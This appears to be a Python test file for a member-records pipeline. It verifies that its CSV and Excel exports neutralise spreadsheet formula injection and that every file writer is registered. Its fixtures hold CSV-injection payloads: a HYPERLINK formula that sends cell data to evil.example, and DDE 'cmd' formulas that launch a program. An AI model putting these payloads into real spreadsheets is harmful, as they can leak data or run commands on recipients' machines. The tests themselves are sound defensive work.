"""Formula neutralisation (OWASP CSV injection): one rule, applied by every CSV and Excel writer."""

import csv
import re
from pathlib import Path

import openpyxl
import polars as pl
from hypothesis import given
from hypothesis import strategies as st

from sotay.pipeline import check_file, reconcile_files
from sotay.pipeline.formulas import neutralise, neutralise_expr, neutralise_frame
from tests.pipeline.members import AN, BINH, HEADER, ORGS, TODAY, write_csv

ROOT = Path(__file__).resolve().parents[2]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "Họ và tên": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "Quê quán": "=cmd|' /C calc'!A0",
    "Nơi thường trú": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Số điện thoại": "+84912345678",
    "Trình độ học vấn": "\t=1+1",
    "Lý luận chính trị": "-2+3",
    "Tôn giáo": "\r=1",
    "Dân tộc": "\x0b=2+2",  # report.xlsx drops the XML-illegal character first: still neutralised
}


def test_text_starting_with_a_formula_character_gets_a_quote():
    for value in ("=1+1", "+84912345678", "-1", "@A1", "\t=1", "\r=1"):
        assert neutralise(value) == "'" + value
    assert neutralise("Nguyễn Văn An") == "Nguyễn Văn An"
    assert neutralise("a=b") == "a=b"
    assert neutralise(-5) == -5  # numbers are written as numbers


@given(st.lists(st.text(alphabet="=+-@\t\rab1 '", max_size=6), max_size=20))
def test_vectorised_and_scalar_forms_agree(values):
    column = pl.DataFrame({"v": values}, schema={"v": pl.String}).select(neutralise_expr(pl.col("v")))
    assert column["v"].to_list() == [neutralise(v) for v in values]


def test_numeric_columns_stay_numbers():
    frame = neutralise_frame(pl.DataFrame({"row": [-1, 2], "text": ["-1", "x"]}))
    assert frame["row"].to_list() == [-1, 2]
    assert frame["text"].to_list() == ["'-1", "x"]


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_no_formula_text(cells: list[object], where: str) -> None:
    bad = [c for c in cells if isinstance(c, str) and c.startswith(TRIGGERS)]
    assert not bad, f"{where}: {bad}"


def test_check_outputs_neutralise_formulas(tmp_path):
    rows = [AN | HOSTILE | {"Mã đảng viên": "=1+2"}, BINH]
    members = write_csv(tmp_path / "members.csv", rows, HEADER)
    result = check_file(members, write_csv(tmp_path / "orgs.csv", ORGS), tmp_path / "out", today=TODAY)
    for name in ("findings", "normalized", "duplicates"):
        _assert_no_formula_text(_csv_cells(result.paths[name]), f"{name}.csv")
    normalized = _csv_cells(result.paths["normalized"])
    assert "'=1+2" in normalized
    book = openpyxl.load_workbook(result.paths["report"])
    for sheet in book.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], sheet.title
        _assert_no_formula_text([c.value for c in cells], f"report.xlsx/{sheet.title}")
    data = [c.value for row in book["Dữ liệu"].iter_rows() for c in row]
    assert "'=cmd|' /C calc'!A0" in data
    assert "'=2+2" in data


def test_only_columns_with_a_formula_are_rebuilt():
    from sotay.pipeline.formulas import columns_to_neutralise

    frame = pl.DataFrame({"a": ["x", "=1"], "b": ["x", "y"], "c": ["\x01=1", "z"], "n": [-1, 2]})
    assert columns_to_neutralise(frame) == {"a"}
    assert columns_to_neutralise(frame, ignoring=r"[\x00-\x08]") == {"a", "c"}


def test_reconcile_outputs_neutralise_formulas(tmp_path):
    old = write_csv(tmp_path / "old.csv", [AN, BINH], HEADER)
    new = write_csv(tmp_path / "new.csv", [AN | {"Mã tổ chức": "=cmd|' /C calc'!A0"}, BINH], HEADER)
    result = reconcile_files(old, new, tmp_path / "diff")
    for path in result.paths.values():
        _assert_no_formula_text(_csv_cells(path), path.name)


# Every place in the product that writes a CSV or an Excel file, and the test that proves it neutralises
# formulas. A new writer fails `test_every_writer_is_known` until it is listed here (or exempted).
WRITERS = {
    "sotay/pipeline/internals/outputs.py": "test_check_outputs_neutralise_formulas",
    "sotay/pipeline/internals/reconcile.py": "test_reconcile_outputs_neutralise_formulas",
    "sotay/pipeline/internals/report_xlsx.py": "test_check_outputs_neutralise_formulas",
    "sotay/pipeline/internals/xlsx_writer.py": "test_check_outputs_neutralise_formulas",
    "sotay/campaign/exports.py": "tests/campaign/test_excel_formulas.py",
    "sotay/members/export.py": "tests/handbook/test_me.py",
    "sotay/notes/export.py": "tests/notes/test_notes.py::test_the_export_neutralises_formulas",
    "sotay/study/exports.py": "tests/study/test_views.py::test_statistics_names_and_excel",
    "sotay/dashboard/exports.py": "tests/dashboard/test_views.py::test_exports_neutralise_formulas",
}
# Files written as *inputs* in the legacy 3.0 layout, for the checker or for people testing it: they
# must hold the values exactly (a quote would be a difference the reconciler reports), and they are
# never reports handed to people.
EXEMPT = {
    "sotay/campaign/legacy.py": "temporary staging files the checker reads back",
    "sotay/synth/writer.py": "synthetic legacy exports with injected defects (test inputs)",
    "sotay/site/demo.py": "the demo's messy 3.0 export (an input for the campaign walkthrough)",
    "sotay/members/actions/copy.py": "the bulk loader's COPY stream into PostgreSQL, never a file for people",
}
WRITER_CALL = re.compile(
    r"csv\.writer|csv\.DictWriter|\.write_csv\(|Workbook\(|XlsxWriter\(|write_excel|to_csv\("
)


def test_every_writer_is_known():
    found = {
        str(path.relative_to(ROOT))
        for path in (ROOT / "sotay").rglob("*.py")
        if "migrations" not in path.parts and WRITER_CALL.search(path.read_text(encoding="utf-8"))
    }
    found.discard("sotay/pipeline/formulas.py")
    unknown = found - set(WRITERS) - set(EXEMPT)
    assert not unknown, (
        f"new CSV/Excel writers: neutralise formulas (sotay.pipeline.formulas) and list them: {unknown}"
    )
